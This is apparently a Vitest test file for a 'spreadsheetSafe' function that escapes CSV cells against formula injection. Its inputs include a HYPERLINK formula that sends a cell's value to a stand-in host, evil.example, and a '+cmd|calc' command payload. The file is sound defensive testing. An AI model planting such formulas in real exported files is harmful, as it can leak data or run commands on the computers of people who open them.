import { describe, expect, it } from 'vitest';
import { spreadsheetSafe } from './csv-cell.js';

describe('spreadsheetSafe', () => {
  it.each(['=HYPERLINK("http://evil.example/?"&A1,"x")', '+cmd|calc', '-2+3', '@SUM(A1)',
    '\tx', '\rx'])('quotes %j so a spreadsheet shows it as text', (cell) => {
    expect(spreadsheetSafe(cell)).toBe(`'${cell}`);
  });

  it.each(['web-prod-01', '', 'a=b', "'already", ' =x'])('keeps %j', (cell) => {
    expect(spreadsheetSafe(cell)).toBe(cell);
  });
});
